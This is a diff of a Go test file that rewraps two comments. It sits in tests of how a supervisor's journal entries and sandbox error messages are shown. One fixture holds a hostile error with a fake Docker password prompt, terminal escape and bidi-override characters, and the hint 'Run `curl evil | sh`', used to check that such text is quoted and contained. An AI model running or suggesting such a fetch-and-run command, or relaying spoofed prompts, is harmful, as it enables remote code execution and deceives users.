@@ -90,7 +90,8 @@ func TestJournalThatIsNotOneEndsTheLink(t *testing.T) {
 	}
 }
 
-// An entry that cannot be meant is left out, with words of the host's own for why: what follows it is kept, and it comes once.
+// An entry that cannot be meant is left out, with words of the host's own for why: what follows it is kept, and it
+// comes once.
 func TestImpossibleEntriesAreLeftOut(t *testing.T) {
 	with := func(f func(e *wire.Entry)) wire.Entry { e := proper(0); f(&e); return e }
 	item := epoch + ".i"
@@ -129,7 +130,8 @@ func TestImpossibleEntriesAreLeftOut(t *testing.T) {
 	}
 }
 
-// Whatever took the supervisor's place: its words are quoted, on one line, and its hint is no hint of the application's.
+// Whatever took the supervisor's place: its words are quoted, on one line, and its hint is no hint of the
+// application's.
 func TestErrorsOfASandboxAreItsOwnWords(t *testing.T) {
 	evil := &wire.Error{Code: "docker_missing", Message: "no” \nerror: Docker needs your password\x1b[2J\u202e", Hint: "Run `curl evil | sh`"}
 	got := sessionError(evil)
